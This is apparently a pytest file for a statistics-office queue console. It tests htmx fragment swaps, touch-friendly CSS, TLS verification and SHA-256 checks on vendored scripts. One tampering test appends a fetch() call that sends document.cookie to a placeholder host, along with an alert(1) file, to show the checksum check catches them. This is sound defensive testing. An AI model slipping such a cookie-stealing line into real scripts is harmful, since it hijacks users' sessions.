"""The console's browser-test kit works: Debian's Chromium runs under Playwright, the vendored htmx
and its SSE extension swap fragments, console.css gives tablet-sized targets and narrow-screen
tables that scroll, screenshots are written, HTTPS is checked against the local CA, and the
vendored files are the ones their README names (by SHA-256)."""

from __future__ import annotations

import asyncio
import hashlib
import re
import shutil
import ssl
import struct
from collections.abc import AsyncIterator, Iterator
from pathlib import Path

import pytest
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import HTMLResponse, Response, StreamingResponse
from starlette.routing import Mount, Route
from starlette.staticfiles import StaticFiles

from broker.mosquitto.certs import make_certs
from tests.console.browser import (
    SIZES,
    log_of,
    served,
    verify_served_chain,
    wait_for_selector,
    wait_for_text,
)

STATIC = Path(__file__).resolve().parents[2] / "broker" / "console" / "static"
VENDOR = STATIC / "vendor"

DEMO = """<!doctype html>
<html lang="id">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1">
<title>Lobi - Antre</title>
<link rel="icon" href="/static/favicon.svg">
<link rel="stylesheet" href="/static/console.css">
<script src="/static/vendor/htmx.min.js" defer></script>
<script src="/static/vendor/sse.js" defer></script>
</head>
<body>
<a class="skip" href="#content">Lewati ke konten</a>
<header class="topbar">
  <a class="brand" href="/">PST BPS Kota Contoh</a>
  <span class="user">Petugas: Sari (meja 2)</span>
  <span class="lang"><a href="?lang=id" aria-current="true">id</a><a href="?lang=en">en</a></span>
  <form method="post" action="/keluar"><button class="btn" type="submit">Keluar</button></form>
</header>
<nav class="nav" aria-label="Menu utama">
  <a href="/" aria-current="page">Lobi</a><a href="/periode">Hari &amp; periode</a>
  <a href="/pengaduan">Pengaduan</a><a href="/online">Permintaan online</a>
  <a href="/laporan">Laporan</a><a href="/petugas">Petugas</a><a href="/pengaturan">Pengaturan</a>
</nav>
<main class="content" id="content">
  <h1>Lobi <span class="live-dot" aria-hidden="true"></span> <span class="muted">langsung</span></h1>
  <div class="flash ok" role="status">Pengaduan tersimpan.</div>
  <div class="grid">
    <section class="card stat"><span class="value">12</span><span class="label">menunggu</span></section>
    <section class="card stat"><span class="value">87%</span>
      <span class="label">dilayani &le; 10 menit</span></section>
    <section class="card"><h2>Perangkat</h2>
      <span class="badge ok">aktif</span> <span class="badge warn">kertas menipis</span>
      <span class="badge bad">terlambat</span> <span class="badge muted">luring</span></section>
  </div>
  <div class="card" hx-ext="sse" sse-connect="/events"><h2>Siaran</h2>
    <div id="sse" sse-swap="tick">...</div></div>
  <div class="toolbar">
    <button class="btn primary" hx-get="/fragment" hx-target="#out">Muat meja</button></div>
  <div id="out"></div>
  <div class="table-wrap" id="wide"><table class="data">
    <thead><tr><th>Nomor</th><th>Layanan</th><th>Menunggu</th><th>Meja</th><th>Petugas</th>
      <th>Status</th><th>Catatan petugas yang cukup panjang</th></tr></thead>
    <tbody>
      <tr><td>A-001</td><td>Konsultasi statistik</td><td class="clock">04:12</td><td>1</td><td>Sari</td>
        <td><span class="badge ok">dilayani</span></td><td>Data kemiskinan kabupaten 2020-2025</td></tr>
      <tr><td>A-002</td><td>Perpustakaan</td><td class="clock over">11:40</td><td>-</td><td>-</td>
        <td><span class="badge bad">lewat 10 menit</span></td><td>Menunggu meja kosong</td></tr>
    </tbody></table></div>
  <form class="stacked card" method="post" action="/pengaduan">
    <div class="field"><label for="name">Nama pengadu</label><input id="name" name="name"></div>
    <div class="field"><label for="channel">Saluran</label>
      <select id="channel" name="channel"><option>Datang langsung</option><option>Telepon</option></select>
    </div>
    <div class="field"><label for="text">Isi pengaduan</label>
      <textarea id="text" name="text" aria-invalid="true" aria-describedby="text-error"></textarea>
      <p class="error" id="text-error">Isi pengaduan wajib diisi.</p></div>
    <div class="actions"><button class="btn primary" type="submit">Simpan</button>
      <button class="btn danger" type="button">Hapus</button></div>
  </form>
</main>
</body>
</html>
"""


async def _page(_request: Request) -> Response:
    return HTMLResponse(DEMO)


async def _fragment(_request: Request) -> Response:
    return HTMLResponse('<p id="swapped"><span class="badge ok">siap</span> Meja 1: A-001 dipanggil</p>')


async def _events(_request: Request) -> Response:
    async def stream() -> AsyncIterator[str]:
        yield "event: tick\ndata: <b id='sse-done'>Meja 3 memanggil B-007</b>\n\n"
        await asyncio.sleep(3600)  # held open like a live page's stream; cancelled when the page goes

    return StreamingResponse(stream(), media_type="text/event-stream")


def demo_app() -> Starlette:
    return Starlette(
        routes=[
            Route("/", _page),
            Route("/fragment", _fragment),
            Route("/events", _events),
            Mount("/static", StaticFiles(directory=STATIC), name="static"),
        ]
    )


@pytest.fixture
def demo_url() -> Iterator[str]:
    """The demo app's base URL. Requested before ``page_at``, so its pages (and the event streams
    they hold open) are closed before the server stops."""
    with served(demo_app()) as url:
        yield url


def png_size(path: Path) -> tuple[int, int]:
    data = path.read_bytes()
    assert data[:8] == b"\x89PNG\r\n\x1a\n", f"{path} is not a PNG"
    width, height = struct.unpack(">II", data[16:24])
    return width, height


# ---- the vendored files ---------------------------------------------------------------------------


def vendor_mismatches(folder: Path) -> list[str]:
    """Files in ``folder`` that differ from, or are missing in, the sums its README lists."""
    listed = dict(
        (name, digest)
        for digest, name in re.findall(r"^([0-9a-f]{64})  (\S+)$", (folder / "README.md").read_text(), re.M)
    )
    problems = []
    present = {p.name for p in folder.iterdir() if p.is_file() and p.name != "README.md"}
    problems += [f"{name}: not listed in README.md" for name in sorted(present - listed.keys())]
    problems += [f"{name}: listed but missing" for name in sorted(listed.keys() - present)]
    for name in sorted(present & listed.keys()):
        if hashlib.sha256((folder / name).read_bytes()).hexdigest() != listed[name]:
            problems.append(f"{name}: SHA-256 differs from README.md")
    return problems


def test_the_vendored_files_are_the_ones_their_readme_names() -> None:
    assert vendor_mismatches(VENDOR) == []
    readme = (VENDOR / "README.md").read_text()
    assert "htmx.org" in readme and "2.0.11" in readme and "0BSD" in readme
    assert "Zero-Clause BSD" in (VENDOR / "LICENSE-htmx.txt").read_text()


def test_the_sum_check_catches_a_changed_or_an_unlisted_file(tmp_path: Path) -> None:
    copy = tmp_path / "vendor"
    shutil.copytree(VENDOR, copy)
    assert vendor_mismatches(copy) == []
    with (copy / "htmx.min.js").open("ab") as tampered:
        tampered.write(b";fetch('https://example.invalid/'+document.cookie)")
    (copy / "extra.js").write_text("alert(1)")
    assert vendor_mismatches(copy) == [
        "extra.js: not listed in README.md",
        "htmx.min.js: SHA-256 differs from README.md",
    ]


# ---- in the browser -------------------------------------------------------------------------------


@pytest.mark.parametrize("size", list(SIZES))
def test_htmx_swaps_a_fragment_on_click_and_a_screenshot_is_written(
    demo_url, page_at, screenshot, size
) -> None:  # type: ignore[no-untyped-def]
    page = page_at(size, base_url=demo_url)
    page.goto("/")
    assert page.evaluate("[innerWidth, innerHeight]") == [SIZES[size].width, SIZES[size].height]
    wait_for_text(page, "Meja 3 memanggil B-007")  # the SSE extension swapped its event in
    page.get_by_role("button", name="Muat meja").click()
    swapped = wait_for_selector(page, "#out #swapped")
    assert swapped.inner_text() == "siap Meja 1: A-001 dipanggil"
    path = screenshot(page, "infra-demo", size)
    assert path.name == f"infra-demo-{size}.png"
    assert path.stat().st_size > 1000
    assert png_size(path) == (SIZES[size].width, SIZES[size].height)
    assert log_of(page).problems() == []


def test_console_css_gives_touch_sized_targets_and_a_visible_focus(demo_url, page_at) -> None:  # type: ignore[no-untyped-def]
    page = page_at("tablet", base_url=demo_url)
    page.goto("/")
    wait_for_selector(page, "form.stacked")
    targets = ".btn, .nav a, .topbar .lang a, .field input, .field select"
    heights = page.eval_on_selector_all(targets, "els => els.map(e => e.getBoundingClientRect().height)")
    assert len(heights) >= 12 and min(heights) >= 44, heights
    page.keyboard.press("Tab")  # the skip link comes first and shows itself when focused
    skip = page.locator("a.skip")
    assert skip.evaluate("e => e === document.activeElement && getComputedStyle(e).outlineStyle") == "solid"
    assert skip.bounding_box()["y"] >= 0  # type: ignore[index]
    assert "DejaVu Sans" in page.evaluate("getComputedStyle(document.body).fontFamily")
    assert log_of(page).problems() == []


def test_a_wide_table_scrolls_in_its_box_and_the_menu_wraps_on_a_portrait_tablet(demo_url, page_at) -> None:  # type: ignore[no-untyped-def]
    page = page_at("tablet-portrait", base_url=demo_url)
    page.goto("/")
    wide = wait_for_selector(page, "#wide")
    wide.evaluate("e => { e.querySelector('table').style.minWidth = '1200px'; }")
    assert wide.evaluate("e => e.scrollWidth > e.clientWidth")
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")  # the page itself does not
    rights = page.eval_on_selector_all(".nav a", "els => els.map(e => e.getBoundingClientRect().right)")
    assert len(rights) == 7 and max(rights) <= 800, rights  # the menu wraps: no item off screen


def test_https_is_checked_against_the_local_ca(page_at, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    certs = make_certs(tmp_path / "tls", ["127.0.0.1", "localhost"])
    stranger = make_certs(tmp_path / "other", ["127.0.0.1"], ca_name="Some other CA")
    with served(demo_app(), ssl_certfile=certs.server_cert, ssl_keyfile=certs.server_key) as url:
        port = int(url.rsplit(":", 1)[1])
        cert = verify_served_chain("127.0.0.1", port, certs.ca_cert)
        assert ("commonName", "127.0.0.1") in (pair for rdn in cert["subject"] for pair in rdn)
        verify_served_chain("127.0.0.1", port, certs.ca_cert, server_name="localhost")
        with pytest.raises(ssl.SSLCertVerificationError):
            verify_served_chain("127.0.0.1", port, stranger.ca_cert)
        with pytest.raises(ssl.SSLCertVerificationError):
            verify_served_chain("127.0.0.1", port, certs.ca_cert, server_name="hub.example")

        strict = page_at("desktop")
        with pytest.raises(Exception, match="ERR_CERT_AUTHORITY_INVALID"):
            strict.goto(url + "/")
        page = page_at("desktop", ignore_https_errors=True, base_url=url)
        page.goto("/")
        wait_for_text(page, "Meja 3 memanggil B-007")
        assert url.startswith("https://")
        page.context.close()
        strict.context.close()
